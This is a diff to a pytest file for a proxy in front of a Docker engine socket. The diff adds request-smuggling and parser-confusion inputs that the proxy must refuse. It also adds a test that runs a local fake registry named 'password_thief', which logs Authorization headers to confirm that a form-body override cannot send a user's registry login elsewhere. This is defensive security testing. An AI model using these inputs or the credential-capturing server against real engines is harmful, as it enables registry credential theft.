@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import socket
 import subprocess
+import threading
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -144,6 +147,12 @@ def test_streams_pass_unharmed(place: Place, busybox_image: str) -> None:
         b"POST /x HTTP/1.1\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\n",
         b"GET http://other/ HTTP/1.1\r\nHost: a\r\n\r\n",
         b"\x16\x03\x01\x02\x00\r\n\r\n",
+        b"POST /images/create?fromImage=a#b HTTP/1.1\r\nHost: a\r\n\r\n",
+        b"POST //images/create?fromImage=a HTTP/1.1\r\nHost: a\r\n\r\n",
+        b"POST /images/create?a=1;fromImage=a HTTP/1.1\r\nHost: a\r\n\r\n",
+        b"POST /images/create?fromImage=%zz HTTP/1.1\r\nHost: a\r\n\r\n",
+        b"POST /x HTTP/1.1\r\nContent-Type: a\r\nContent-Type: b\r\n\r\n",
+        b"POST /x HTTP/1.1\r\nContent-Type: Multipart/Form-Data; boundary=a\r\n\r\n",
     ],
 )
 def test_what_two_readers_could_read_differently_is_refused(place: Place, data: bytes) -> None:
@@ -155,14 +164,64 @@ def test_what_two_readers_could_read_differently_is_refused(place: Place, data: 
     assert answer.startswith(b"HTTP/1.1 400 Bad Request\r\n")
 
 
-def test_a_second_request_behind_the_first_is_not_answered(place: Place) -> None:
+@pytest.mark.parametrize("upgrade", [b"", b"Upgrade: tcp\r\n", b"Upgrade: h2c\r\n"])
+def test_a_second_request_behind_the_first_is_not_answered(place: Place, upgrade: bytes) -> None:
     """The engine closes the connection after one answer, so no request passes without a look."""
-    with socket.socket(socket.AF_UNIX) as wire:
-        wire.connect(place.path)
-        wire.sendall(b"GET /_ping HTTP/1.1\r\nHost: a\r\n\r\n" * 2)
-        wire.settimeout(60)
-        data = b""
-        while chunk := wire.recv(65536):
-            data += chunk
+    data = exchange(place.path, (b"GET /_ping HTTP/1.1\r\nHost: a\r\n" + upgrade + b"\r\n") * 2)
     assert data.count(b"HTTP/1.1") == 1
     assert data.startswith(b"HTTP/1.1 200 OK\r\n")
+
+
+def test_a_web_form_sends_no_login_to_another_registry(place: Place) -> None:
+    """An engine prefers values in a form. A form with the attacker's registry behind a lent one gets no login."""
+    with password_thief() as (thief, stolen):
+        form = f"fromImage={thief}/team/private&tag=1".encode()
+        head = (
+            f"POST /v1.41/images/create?fromImage={place.registry}/team/private&tag=1 HTTP/1.1\r\nHost: a\r\n"
+            f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(form)}\r\n\r\n"
+        ).encode()
+        answer = exchange(place.path, head + form)
+        assert place.docker("pull", f"{thief}/team/private:1").returncode == 1  # the engine does ask this registry
+    assert answer.startswith(b"HTTP/1.1 400 Bad Request\r\n")
+    assert set(stolen) == {None}  # what that pull sent
+
+
+def exchange(path: str, data: bytes) -> bytes:
+    """Send bytes to a socket, and return all that comes back."""
+    with socket.socket(socket.AF_UNIX) as wire:
+        wire.connect(path)
+        wire.settimeout(60)
+        wire.sendall(data)
+        answer = b""
+        while chunk := wire.recv(65536):
+            answer += chunk
+    return answer
+
+
+@contextlib.contextmanager
+def password_thief() -> Iterator[tuple[str, list[str | None]]]:
+    """Run a registry that asks for a password; yield its name, and a list of the passwords that it gets."""
+    stolen: list[str | None] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            stolen.append(self.headers.get("Authorization"))
+            self.send_response(401)
+            self.send_header("WWW-Authenticate", 'Basic realm="thief"')
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        do_HEAD = do_GET  # noqa: N815  # as http.server names it
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    try:
+        yield f"127.0.0.1:{server.server_port}", stolen
+    finally:
+        server.shutdown()
+        thread.join()
+        server.server_close()
